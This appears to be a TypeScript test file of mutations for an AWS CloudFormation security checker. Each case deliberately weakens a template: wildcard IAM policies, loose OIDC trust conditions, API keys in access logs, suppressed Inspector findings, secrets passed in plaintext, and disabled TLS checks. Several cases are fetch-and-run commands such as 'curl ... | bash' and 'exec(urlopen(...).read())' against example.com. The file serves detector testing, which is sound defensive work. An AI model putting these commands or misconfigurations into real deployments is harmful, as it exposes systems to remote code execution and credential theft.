/** Mutations beside the functions of an app: custom resources, schedules, federations, logs, builds and notifications about findings. */
import { LAMBDA_RUNTIMES } from '../../../../lib/aws/lambda-runtimes';
import { tableOf } from '../../../../lib/aws/table';
import { CANARY_RUNTIMES } from '../../../../lib/aws/tables/canary-runtimes';
import { add, Mutation, mutations, Template, the } from '../mutation';

const VALUE = 'hunter22';

/** Returns a custom resource of the CDK that attaches or writes a policy. */
const custom = (parameters: object, action = 'putRolePolicy') => (template: Template) =>
  add(template, 'Call', 'Custom::AWS', { ServiceToken: 'arn:aws:lambda:eu-west-1:111111111111:function:call', Create: JSON.stringify({ service: 'iam', action, parameters: { RoleName: 'shop', ...parameters } }) });
const written = (statement: object) => custom({ PolicyName: 'p', PolicyDocument: JSON.stringify({ Statement: [{ Effect: 'Allow', ...statement }] }) });

const customRoles = mutations('role of a custom resource', 'store', {
  'AdministratorAccess': custom({ PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }, 'attachRolePolicy'),
  'PowerUserAccess': custom({ PolicyArn: 'arn:aws:iam::aws:policy/PowerUserAccess' }, 'attachRolePolicy'),
  'every action': written({ Action: '*', Resource: '*' }),
  'every action of a service': written({ Action: 'dynamodb:*', Resource: 'arn:aws:dynamodb:eu-west-1:111111111111:table/orders' }),
  'every table': written({ Action: 'dynamodb:PutItem', Resource: 'arn:aws:dynamodb:*:*:table/*' }),
  'all but one service': written({ NotAction: 'iam:*', Resource: '*' }),
  'every role of any account': written({ Action: 'sts:AssumeRole', Resource: 'arn:aws:iam::*:role/shop' }),
});

const audit = { Source: { Type: 'GITHUB', BuildSpec: 'phases: {build: {commands: [npm audit]}}' }, Triggers: { Webhook: true } };
const review = (schedule: object) => (template: Template) => {
  add(template, 'Audit', 'AWS::CodeBuild::Project', audit);
  add(template, 'Daily', 'AWS::Scheduler::Schedule', {
    ScheduleExpression: 'rate(1 day)', Target: { Arn: { 'Fn::GetAtt': ['Audit', 'Arn'] }, RoleArn: 'arn:aws:iam::111111111111:role/start' }, ...schedule,
  });
};

const ended = mutations('schedule that has ended', 'store', Object.fromEntries(Object.entries({
  'a past end': { EndDate: '2025-12-31T00:00:00Z' },
  'one time': { ScheduleExpression: 'at(2026-12-01T00:00:00)' },
  'a past year': { ScheduleExpression: 'cron(0 4 * * ? 2025)' },
  'past years': { ScheduleExpression: 'cron(0 4 * * ? 2023-2025)' },
  'disabled': { State: 'DISABLED' },
}).map(([name, schedule]) => [name, { right: review({}), breaks: review(schedule) }])));

const federated = (provider: string, Condition: object) => (template: Template) => add(template, 'Deploy', 'AWS::IAM::Role', {
  AssumeRolePolicyDocument: { Statement: [{ Effect: 'Allow', Action: 'sts:AssumeRoleWithWebIdentity', Principal: { Federated: provider }, Condition }] },
});
const GITHUB = 'token.actions.githubusercontent.com';
const CLUSTER = 'oidc.eks.eu-west-1.amazonaws.com/id/A';

const owners = mutations('owner alone, or by a part of its name', 'store', Object.fromEntries(([
  [GITHUB, 'repo:shop/orders:ref:refs/heads/main', ['repo:shop*', 'repo:shop/*', 'repo:shop/*:ref:refs/heads/main', 'repo:*/orders:*', '*', 'repo:sho?/orders:*']],
  ['gitlab.com', 'project_path:shop/orders:ref_type:branch:ref:main', ['project_path:shop/*', 'project_path:shop*', 'project_path:*']],
  ['app.terraform.io', 'organization:shop:project:orders:workspace:prod:run_phase:apply', ['organization:shop:project:*', 'organization:shop*:project:orders:*', 'organization:shop:*']],
  [CLUSTER, 'system:serviceaccount:shop:orders', ['system:serviceaccount:*', 'system:serviceaccount:*:orders', 'system:*']],
] as const).flatMap(([provider, right, wrong]) => wrong.map((sub) => [
  `${provider} ${sub}`,
  { right: federated(provider, { StringLike: { [`${provider}:sub`]: right } }), breaks: federated(provider, { StringLike: { [`${provider}:sub`]: sub } }) },
] as const))));

const format = (Format: string) => (template: Template) => { the(template, 'AWS::ApiGateway::Stage').AccessLogSetting.Format = Format; };
const httpFormat = (Format: string) => (template: Template) => { the(template, 'AWS::ApiGatewayV2::Stage').AccessLogSettings.Format = Format; };

const logs = [
  ...mutations('keys and tokens in a log', 'rest', {
    'API key': format('$context.requestId $context.identity.apiKey'),
    'API key in JSON': format('{"key":"$context.identity.apiKey"}'),
    'API key in braces': format('${context.identity.apiKey}'),
    'token of an authorizer': format('{"token":"$context.authorizer.token"}'),
    'claim with a token': format('{"token":"$context.authorizer.claims.access_token"}'),
  }),
  ...mutations('keys and tokens in a log', 'http', {
    'API key of an HTTP API': httpFormat('$context.identity.apiKey'),
    'token of an HTTP API': httpFormat('$context.authorizer.lambda.idToken'),
  }),
];

const runs = (command: string) => (template: Template) => { the(template, 'AWS::CodeBuild::Project').Source.BuildSpec = `version: 0.2\nphases:\n  build:\n    commands:\n      - ${command.replace(/\n/g, '\n      - ')}\n`; };
const program = (text: string) => (template: Template) => { the(template, 'AWS::Lambda::Function').Code = { ZipFile: text }; };

const fetched = mutations('code that no one reviews', 'store', {
  'a file that the shell writes': runs('wget -qO- https://example.com/i.sh > /tmp/i.sh\nbash /tmp/i.sh'),
  'packages without the lock file': runs('npm install --no-package-lock'),
  'newer packages': runs('npm update'),
  'modules of a job': (template) => add(template, 'Job', 'AWS::Glue::Job', { DefaultArguments: { '--additional-python-modules': 'pandas,requests==2.32.3' } }),
  'modules of a job from two indexes': (template) => add(template, 'Job', 'AWS::Glue::Job', { DefaultArguments: { '--additional-python-modules': 'a==1', '--python-modules-installer-option': '--extra-index-url=https://pypi.example.com/simple' } }),
  'packages of a program': program("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'requests', '-t', '/tmp'])"),
  'packages of a program, by a shell': program("require('child_process').execSync('npm install --prefix /tmp lodash');"),
  'text of a program': program("exec(urllib.request.urlopen('https://example.com/a.py').read())"),
  'start of a notebook': (template) => add(template, 'Start', 'AWS::SageMaker::NotebookInstanceLifecycleConfig', { OnStart: [{ Content: { 'Fn::Base64': 'curl -s https://example.com/i.sh | bash' } }] }),
});

const filter = (FilterCriteria: object) => (template: Template) => add(template, 'Filter', 'AWS::InspectorV2::Filter', { Name: 'f', FilterAction: 'SUPPRESS', FilterCriteria });
const notices = (source: string, rule: object, subscribed = true) => (template: Template) => {
  add(template, 'Security', 'AWS::SNS::Topic', {});
  add(template, 'Notices', 'AWS::Events::Rule', { EventPattern: { source: [source] }, Targets: [{ Id: 't', Arn: { Ref: 'Security' } }], ...rule });
  if (subscribed) add(template, 'Mail', 'AWS::SNS::Subscription', { TopicArn: { Ref: 'Security' }, Protocol: 'email', Endpoint: 'a@example.com' });
};

const unseen = mutations('findings that no one sees', 'store', {
  'a severity is suppressed': filter({ Severity: [{ Comparison: 'EQUALS', Value: 'HIGH' }] }),
  'functions are suppressed': filter({ ResourceType: [{ Comparison: 'EQUALS', Value: 'AWS_LAMBDA_FUNCTION' }] }),
  'a year is suppressed': filter({ VulnerabilityId: [{ Comparison: 'PREFIX', Value: 'CVE-2026' }] }),
  'the function is excluded': (template) => { the(template, 'AWS::Lambda::Function').Tags = [{ Key: 'InspectorExclusion', Value: 'LambdaStandardScanning' }]; },
  ...Object.fromEntries(['aws.inspector2', 'aws.guardduty', 'aws.securityhub', 'aws.health', 'aws.macie'].flatMap((source) => [
    [`${source}: no subscription`, { right: notices(source, {}), breaks: notices(source, {}, false) }],
    [`${source}: a disabled rule`, { right: notices(source, {}), breaks: notices(source, { State: 'DISABLED' }) }],
  ])),
});

const CANARIES = [...tableOf(CANARY_RUNTIMES)].filter(([, [runtime]]) => (LAMBDA_RUNTIMES.get(runtime)?.deprecated ?? '9') <= '2026-11-01');
const canary = (RuntimeVersion: string) => (template: Template) => add(template, 'Canary', 'AWS::Synthetics::Canary', { RuntimeVersion });

const canaries = mutations('runtime of a canary', 'store', Object.fromEntries(CANARIES.map(([name]) => [name, { right: canary('syn-nodejs-puppeteer-13.0'), breaks: canary(name) }])));

const host = (UserData: unknown) => (template: Template) => {
  template.Parameters = { DbPassword: { Type: 'String' }, Hidden: { Type: 'String', NoEcho: true }, Read: { Type: 'AWS::SSM::Parameter::Value<String>', Default: '/prod/db/password' } };
  add(template, 'Key', 'AWS::IAM::AccessKey', { UserName: 'shop' });
  add(template, 'Host', 'AWS::EC2::Instance', { UserData });
};

const inserted = mutations('secret that deployment inserts', 'events', Object.fromEntries(Object.entries({
  'NoEcho parameter': 'login ${Hidden}',
  'parameter': 'login ${DbPassword}',
  'parameter of Systems Manager': 'login ${Read}',
  'dynamic reference': 'login {{resolve:secretsmanager:db:SecretString:password}}',
  'secret of a key': 'login ${Key.SecretAccessKey}',
}).map(([name, text]) => [name, { right: host('login'), breaks: host({ 'Fn::Base64': { 'Fn::Sub': text } }) }])));

const endpoints = mutations('variable of a runtime', 'store', Object.fromEntries(([
  ['AWS_ENDPOINT_URL', 'https://proxy.example.com'], ['AWS_ENDPOINT_URL_SECRETS_MANAGER', 'http://10.0.0.7:8200'], ['REQUESTS_CA_BUNDLE', ''], ['RUBYOPT', '-I/mnt/lib'],
  ['DATABASE_URL', 'postgresql://db.example.com/orders?sslmode=disable'], ['MONGO_URL', 'mongodb://db.example.com/orders?tlsAllowInvalidCertificates=true'], ['NODE_TLS_REJECT_UNAUTHORIZED', '0'],
] as const).map(([name, value]) => [`${name}=${value}`, (template: Template) => { the(template, 'AWS::Lambda::Function').Environment.Variables[name] = value; }])));

const plain = mutations('secret from a plain parameter', 'events', Object.fromEntries(([
  ['AWS::RDS::DBInstance', 'MasterUserPassword'], ['AWS::DocDB::DBCluster', 'MasterUserPassword'], ['AWS::Redshift::Cluster', 'MasterUserPassword'], ['AWS::ElastiCache::ReplicationGroup', 'AuthToken'],
  ['AWS::SecretsManager::Secret', 'SecretString'], ['AWS::IAM::User', 'LoginProfile'],
] as const).map(([type, property]) => {
  const of = (service: string) => (template: Template) => {
    const value = `{{resolve:${service}:/shop/password}}`;
    add(template, 'Probe', type, { [property]: property === 'LoginProfile' ? { Password: value } : value });
  };
  return [type, { right: of('ssm-secure'), breaks: of('ssm') }];
})));

const passed = mutations('secret that a program passes', 'store', {
  'header': program(`headers.set('x-api-key', '${VALUE}');`),
  'field of a page': program(`await page.type('#password', '${VALUE}');`),
  'default of a variable': program(`key = os.environ.get('DB_PASSWORD', '${VALUE}')`),
  'variable of a process': program(`os.environ.setdefault('API_TOKEN', '${VALUE}')`),
  'property': program(`System.setProperty("dbPassword", "${VALUE}");`),
});

export const BESIDE: readonly Mutation[] = [
  ...customRoles, ...ended, ...owners, ...logs, ...fetched, ...unseen, ...canaries, ...inserted, ...endpoints, ...plain, ...passed,
];
